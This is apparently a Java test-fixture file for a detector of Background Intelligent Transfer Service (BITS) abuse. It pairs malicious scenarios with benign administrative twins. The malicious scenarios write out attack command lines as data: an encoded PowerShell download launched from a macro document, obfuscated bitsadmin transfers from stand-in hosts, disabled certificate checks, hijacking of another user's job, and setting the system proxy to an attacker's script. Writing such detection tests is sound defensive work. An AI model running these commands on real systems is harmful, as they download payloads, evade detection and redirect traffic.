package org.bitshound.testing.evidence.stories;

import static java.nio.charset.StandardCharsets.UTF_16LE;
import static org.bitshound.testing.evidence.stories.Scene.SYSTEM32;

import java.util.Base64;
import java.util.List;
import org.bitshound.testing.evidence.samples.SampleProcess;
import org.bitshound.testing.evidence.samples.SampleUser;

/// Commands: who gave them, how they are written, and what they change.
final class CommandStories {
  private static final String SETUP = "https://repo.lindenwerk.example/agent/setup.msi";
  private static final String ROLLOUT = "C:\\ProgramData\\Rollout\\setup.msi";
  private static final String STAGE = "https://static.cdn-sync.example/w/stage.dat";
  private static final String MEDIA = "C:\\ProgramData\\Media\\stage.dat";

  private CommandStories() {}

  static List<Twins> all() {
    return List.of(
        new Twins(
            "Encoded PowerShell",
            Story.of(
                    "A document starts PowerShell with an encoded Start-BitsTransfer",
                    CommandStories::encodedUnderWord)
                .found(
                    "obfuscated-command", "suspicious-parent", "process-intent", "unapproved-url"),
            Story.of(
                "The Intune agent runs an encoded script that fetches from the repository",
                CommandStories::encodedByAgent)),
        new Twins(
            "Script host",
            Story.of(
                    "A script that was opened by hand has bitsadmin fetch a file",
                    CommandStories::scriptOpenedByHand)
                .found("suspicious-parent", "bitsadmin-transfer", "unapproved-url"),
            Story.of(
                "In a change window a script of software distribution fetches from the repository",
                CommandStories::scriptOfDistribution)),
        new Twins(
            "Hidden words",
            Story.of(
                    "Carets, quotes and parts of variables hide a transfer",
                    CommandStories::hiddenWords)
                .found("obfuscated-command", "bitsadmin-transfer", "unapproved-url"),
            Story.of(
                "An administrator quotes every argument, because paths have blanks",
                CommandStories::quotedArguments)),
        new Twins(
            "Certificate checks off",
            Story.of(
                    "A job accepts any certificate",
                    () -> securityFlags(Scene.watched(), STAGE, "30"))
                .found("weakened-transport", "job-persistence-command", "unapproved-url"),
            Story.of(
                "In a change window a job to the repository is told to look for revoked certificates",
                () -> securityFlags(Scene.watched().tonight(), SETUP, "1"))),
        new Twins(
            "Another's job",
            Story.of("A job is taken over and its address replaced", CommandStories::takenOver)
                .found("job-tampered", "process-intent"),
            Story.of(
                "In a change window an administrator changes the priority of a job of his own",
                CommandStories::ownPriority)),
        new Twins(
            "Queue wiped",
            Story.of(
                    "Every job of the machine is cancelled after the work",
                    CommandStories::queueWiped)
                .found("cleanup")
                .never("reconnaissance"),
            Story.of("A responder lists every job of the machine", CommandStories::queueListed)),
        new Twins(
            "Proxy of the system",
            Story.of(
                    "The proxy of LocalSystem is set to a script of an attacker",
                    () -> utility("/setieproxy localsystem AUTOSCRIPT http://203.0.113.9/p.pac"))
                .found("proxy-changed"),
            Story.of(
                "An administrator looks at the proxy of LocalSystem and resets it",
                CommandStories::proxyReset)));
  }

  private static Scene encodedUnderWord() {
    Scene scene = Scene.watched();
    String office = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE";
    SampleProcess word =
        scene.start(
            scene.desktopOf(scene.user),
            office,
            "\"" + office + "\" /n \"" + scene.user.profile() + "\\Downloads\\Offer.docm\"");
    encoded(
        scene, word, "https://static.cdn-sync.example/w/a.dat", "C:\\ProgramData\\Media\\a.dat");
    return scene;
  }

  private static Scene encodedByAgent() {
    Scene scene = Scene.watched();
    String agent =
        "C:\\Program Files (x86)\\Microsoft Intune Management Extension\\"
            + "Microsoft.Management.Services.IntuneWindowsAgent.exe";
    encoded(scene, scene.running(SampleUser.SYSTEM, agent, "\"" + agent + "\""), SETUP, ROLLOUT);
    return scene;
  }

  private static void encoded(Scene scene, SampleProcess parent, String url, String to) {
    String script = "Start-BitsTransfer -Source " + url + " -Destination " + to;
    String base64 = Base64.getEncoder().encodeToString(script.getBytes(UTF_16LE));
    SampleProcess shell = scene.powershell(parent, "-NoProfile -EncodedCommand " + base64);
    Records.script(scene, shell, script);
    scene.fetch(shell, "BITS Transfer", url, to);
  }

  private static Scene scriptOpenedByHand() {
    Scene scene = Scene.watched();
    SampleProcess script =
        scene.start(
            scene.desktopOf(scene.user),
            SYSTEM32 + "wscript.exe",
            "\"" + SYSTEM32 + "WScript.exe\" \"" + scene.user.profile() + "\\Downloads\\scan.js\"");
    scene.transfer(script, "upd", "https://static.cdn-sync.example/w/u.dat", MEDIA);
    return scene;
  }

  private static Scene scriptOfDistribution() {
    Scene scene = Scene.watched().tonight();
    SampleProcess client =
        scene.running(
            SampleUser.SYSTEM, "C:\\Windows\\CCM\\CcmExec.exe", "C:\\Windows\\CCM\\CcmExec.exe");
    SampleProcess script =
        scene.start(
            client,
            SYSTEM32 + "cscript.exe",
            "cscript.exe //B C:\\Windows\\ccmcache\\1f\\rollout.vbs");
    scene.transfer(script, "rollout", SETUP, ROLLOUT);
    return scene;
  }

  private static Scene hiddenWords() {
    Scene scene = Scene.watched();
    SampleProcess shell =
        scene.start(
            scene.desktopOf(scene.user),
            Scene.CMD,
            "cmd.exe /c \"b^its%ProgramData:~8,1%dmin /tr\"\"ans\"\"fer upd "
                + STAGE
                + " "
                + MEDIA
                + "\"");
    SampleProcess tool =
        scene.start(shell, Scene.BITSADMIN, "bitsadmin  /tr\"ans\"fer upd " + STAGE + " " + MEDIA);
    scene.fetch(tool, "upd", STAGE, MEDIA);
    return scene;
  }

  private static Scene quotedArguments() {
    Scene scene = Scene.watched();
    String to = "C:\\Program Files\\Rollout Files\\setup.msi";
    SampleProcess shell = scene.promptOf(scene.admin);
    SampleProcess tool =
        scene.bitsadmin(shell, "/transfer \"March rollout\" \"" + SETUP + "\" \"" + to + "\"");
    scene.fetch(tool, "March rollout", SETUP, to);
    return scene;
  }

  private static Scene securityFlags(Scene scene, String url, String flags) {
    boolean house = url.equals(SETUP);
    StagedJob.create(scene, scene.promptOf(house ? scene.admin : scene.user), "pack")
        .add(url, house ? ROLLOUT : MEDIA)
        .set("setsecurityflags", flags)
        .resume()
        .fetched(url, 90_112)
        .complete();
    return scene;
  }

  private static Scene takenOver() {
    Scene scene = Scene.watched();
    SampleProcess shell = scene.promptOf(scene.user);
    String job = "{7D0C5C1A-2B35-4F0E-9C0C-3A51B0C1D2E3}";
    scene.run(shell, "/takeownership " + job);
    scene.run(
        shell,
        "/replaceremoteprefix "
            + job
            + " http://dl.vendor.example https://static.cdn-sync.example/dl");
    scene.run(shell, "/resume " + job);
    return scene;
  }

  private static Scene ownPriority() {
    Scene scene = Scene.watched().tonight();
    StagedJob.create(scene, scene.promptOf(scene.admin), "setup")
        .add(SETUP, ROLLOUT)
        .set("setpriority", "LOW")
        .resume()
        .fetched(SETUP, 4_112_384)
        .complete();
    return scene;
  }

  private static Scene queueWiped() {
    Scene scene = Scene.watched();
    scene.run(scene.promptOf(scene.user), "/reset /allusers");
    return scene;
  }

  private static Scene queueListed() {
    Scene scene = Scene.watched();
    scene.run(scene.promptOf(scene.admin), "/nowrap /list /allusers /verbose");
    return scene;
  }

  private static Scene utility(String arguments) {
    Scene scene = Scene.watched();
    scene.run(scene.promptOf(scene.user), "/util " + arguments);
    return scene;
  }

  private static Scene proxyReset() {
    Scene scene = Scene.watched();
    SampleProcess shell = scene.promptOf(scene.admin);
    scene.run(shell, "/util /getieproxy localsystem");
    scene.run(shell, "/util /setieproxy localsystem RESET");
    return scene;
  }
}
